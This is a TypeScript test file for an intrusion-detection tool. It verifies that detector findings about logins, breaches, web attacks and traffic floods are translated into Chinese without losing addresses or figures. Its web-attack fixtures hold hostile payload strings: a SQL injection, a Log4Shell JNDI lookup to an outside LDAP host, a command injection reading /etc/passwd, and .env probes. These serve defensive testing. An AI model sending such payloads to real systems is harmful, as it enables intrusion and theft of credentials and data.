/** What detectors say, in Chinese: every sentence of every rule's samples, and of what analyzers find. */
import { describe, expect, it } from 'vitest'
import { FEATURES, tellFeature } from '../../../src/anomaly/feature-spec.ts'
import windowAnomaly from '../../../src/anomaly/window-anomaly.ts'
import { ANALYZERS } from '../../../src/campaigns/index.ts'
import { DAY, HOUR, MINUTE } from '../../../src/core/time.ts'
import type { AnalyzerUnit } from '../../../src/kit/define-detector.ts'
import type { FindingDraft } from '../../../src/kit/define-rule.ts'
import { classifyTarget, PAYLOAD_FAMILIES } from '../../../src/kit/payloads/index.ts'
import { RULES } from '../../../src/rules/index.ts'
import type { Sentence } from '../../../src/sinks/notify/catalogue/sentences.ts'
import { ZH_ACCOUNTS } from '../../../src/sinks/notify/catalogue/zh-cn/accounts.ts'
import { ZH_ADVICE } from '../../../src/sinks/notify/catalogue/zh-cn/advice.ts'
import { ZH_ANALYZERS } from '../../../src/sinks/notify/catalogue/zh-cn/analyzers.ts'
import { ZH_LOGINS } from '../../../src/sinks/notify/catalogue/zh-cn/logins.ts'
import { adviceInChinese, sentenceInChinese } from '../../../src/sinks/notify/catalogue/zh-cn/sentences.ts'
import { ZH_WEB } from '../../../src/sinks/notify/catalogue/zh-cn/web.ts'
import { background, START, swarm } from '../../anomaly/background.ts'
import { NOTHING, openAnalyzer, play, type TestEvent } from '../../anomaly/events.ts'
import { burst, request, visitors, watch } from '../../rates/traffic.ts'
import { runSample } from '../../support/run-sample.ts'

const CHINESE: Readonly<Record<string, readonly Sentence[]>> = {
  ...ZH_LOGINS,
  ...ZH_ACCOUNTS,
  ...ZH_WEB,
  ...ZH_ANALYZERS,
}

/** The addresses of a sentence, and its figures: whatever the language, they stay. */
const facts = (text: string): string[] =>
  (text.match(/\d+(?:\.\d+){3}(?:\/\d+)?|\b[0-9a-f]{1,4}(?::[0-9a-f]{0,4}){2,}|\d[\d,.]*\d|\d/gi) ?? []).sort()

/** What a finding says that has no Chinese, and what the Chinese has lost. */
function missing({ rule, title, reasons, recommendations }: FindingDraft): string[] {
  const sentences = [title, ...reasons.map(({ text }) => text)].map(
    text => [text, sentenceInChinese(rule, text)] as const,
  )
  return [...sentences, ...recommendations.map(text => [text, adviceInChinese(text)] as const)].flatMap(
    ([text, said]) => {
      if (said === undefined) return [text]
      const lost = facts(text).filter(fact => !facts(said).includes(fact))
      const isChinese = /\p{Script=Han}/u.test(said) && !/undefined|\{|\} /.test(said.split('\n')[0])
      return lost.length === 0 && isChinese ? [] : [`${text} -> ${said}`]
    },
  )
}

// Who adds a rule need not know Chinese: what it says is told in English, and as such. Where there are words for one of
// its sentences there are for all.
describe.each(RULES.filter(({ id }) => id in CHINESE).map(rule => ({ id: rule.id, rule })))('$id', ({ rule }) => {
  it.each(rule.examples().fires)('$name', sample => {
    const findings = runSample(rule, sample)
    expect(findings).not.toEqual([])
    expect(findings.flatMap(missing)).toEqual([])
  })
})

describe('analyzers', () => {
  const inOrder = (...lists: TestEvent[][]): TestEvent[] => lists.flat().sort((a, b) => a.time - b.time)
  const conclude = (unit: AnalyzerUnit, events: readonly TestEvent[]): FindingDraft[] => {
    const { analyzer, addresses } = openAnalyzer(unit)
    play(events, addresses, event => analyzer.observe(event))
    return analyzer.conclude(NOTHING)
  }

  it('a campaign, with a login that succeeded', () => {
    const at = START + 20 * DAY
    const own = Array.from({ length: 25 }, (_, day) => ({
      time: START + day * DAY + 9 * HOUR,
      source: '192.0.2.10',
      user: 'deploy',
      kind: 'ssh.auth.accepted' as const,
    }))
    const breach = { ...own[0], time: at + 30 * MINUTE, source: '203.0.113.77' }
    const findings = conclude(
      ANALYZERS[0],
      inOrder(background({ days: 25, rate: 5, seed: 1 }), own, swarm(60, at, HOUR), [breach]),
    )
    expect(findings.map(({ severity }) => severity)).toContain('critical')
    expect(findings.flatMap(missing)).toEqual([])
  })

  it.each([
    ['one attack on one page', 200, ['/product?id=1%20UNION%20SELECT%201,version()--']],
    ['several attacks', 404, ['/?x=$%7Bjndi:ldap://198.51.100.77/a%7D', '/ping?host=;cat%20/etc/passwd', '/.env']],
  ])('a web site under attack by many addresses: %s', (_, status, targets) => {
    const get = (time: number, source: string, target: string, answer: number): TestEvent => ({
      time,
      source,
      kind: 'web.request',
      path: target.split('?')[0],
      status: answer,
      traits: classifyTarget('GET', target),
    })
    const scanners = Array.from({ length: 160 }, (_, i) =>
      get(START + i * 144 * MINUTE, `45.7.${i}.9`, '/boaform/admin/formLogin', 404),
    )
    const bots = Array.from({ length: 60 }, (_, i) =>
      get(START + 9 * DAY + i * MINUTE, `203.0.${i}.7`, targets[i % targets.length], status),
    )
    const findings = conclude(ANALYZERS[0], inOrder(scanners, bots))
    expect(findings.map(({ title }) => title)).toEqual([expect.stringMatching(/^Distributed attack on the web site/)])
    expect(findings.flatMap(missing)).toEqual([])
  })

  it('an hour unlike any before', () => {
    const events = inOrder(background({ days: 42, rate: 5, seed: 1 }), swarm(30, START + 40 * DAY, HOUR))
    const findings = conclude(windowAnomaly, events)
    expect(findings).not.toEqual([])
    expect(findings.flatMap(missing)).toEqual([])
  })

  it.each(Object.values(FEATURES).flat())('the feature $id, one and several', spec => {
    for (const value of [0, 0.42, 1, 2, 48_000]) {
      const told = `${tellFeature(spec, value)} in an hour; ${tellFeature(spec, value).split(' ')[0]} are usual`
      const said = sentenceInChinese('window-anomaly', told)
      expect([told, said]).toEqual([told, expect.stringMatching(/^1 小时内\p{Script=Han}*[^a-z]*为/u)])
    }
  })

  it('rates: of the server, of one source', () => {
    const later = START + 2 * HOUR
    const many = burst(900, later, 100, (time, n) => request(time, `203.0.113.${n % 60}`, '/api/login'))
    const one = burst(900, later, 100, time => request(time, '203.0.113.7', '/', 404))
    for (const flood of [many, one]) {
      const findings = watch(inOrder(visitors(4, 40), flood)).analyzer.conclude(NOTHING)
      expect(findings).not.toEqual([])
      expect(findings.flatMap(missing)).toEqual([])
    }
  })
})

describe('the catalogue', () => {
  const all: Readonly<Record<string, readonly Sentence[]>> = { ...CHINESE, advice: ZH_ADVICE }
  const named = (text: string): string[] => [...text.matchAll(/\{(\w+)(?::\w+)?\}/g)].map(([, name]) => name).sort()

  it.each(Object.entries(all))('%s: what is said loses no part of the sentence and invents none', (_, sentences) => {
    for (const [english, said] of sentences) {
      const parts = [...english.matchAll(/\{(\w+):\w+\}/g)].map(([, name]) => name)
      expect([english, [...new Set(named(said))]]).toEqual([english, [...new Set(parts)].sort()])
    }
  })

  it.each(PAYLOAD_FAMILIES)('has a word for the payloads $id', ({ title }) => {
    const said = sentenceInChinese('web-probe', `3 probes from 192.0.2.1: ${title}, ${title} and 4 more`) ?? ''
    const [first, second] = said.slice(said.indexOf('：') + 1).split('、')
    expect(first).toMatch(/\p{Script=Han}/u)
    expect(second).toBe(`${first}，另有 4 个`)
  })

  it('says nothing of a sentence that a name could have made in two ways', () => {
    const login = (user: string): string =>
      `5 failed logins in 3 s, then a login as ${user} by password succeeded; under 5 failures before a success would be normal`
    expect(sentenceInChinese('breach-detection', login('deploy'))).toContain('deploy')
    expect(sentenceInChinese('breach-detection', login('eve by key'))).toBeUndefined()
    expect(sentenceInChinese('quiet-hours', 'x logged in from 192.0.2.1 in the quiet hours')).toContain('192.0.2.1')
  })

  it('keeps what names contain, and the commands of an advice', () => {
    const names = '{x} ${y} $& <b>'
    expect(sentenceInChinese('brute-force', `All against one name: ${names}`)).toBe(`全部针对同一个用户名：${names}`)
    expect(adviceInChinese('# Give the account a new password.\nsudo passwd -- "$&"')).toBe(
      '# 更改该账户的密码。\nsudo passwd -- "$&"',
    )
  })

  it('has no words for what no detector says, or for a text without end', () => {
    expect(sentenceInChinese('brute-force', 'Something else')).toBeUndefined()
    expect(sentenceInChinese('toString', 'The account x was created')).toBeUndefined()
    expect(sentenceInChinese('account-created', `The account ${'x'.repeat(5000)} was created`)).toBeUndefined()
    expect(adviceInChinese('no comment')).toBeUndefined()
  })
})
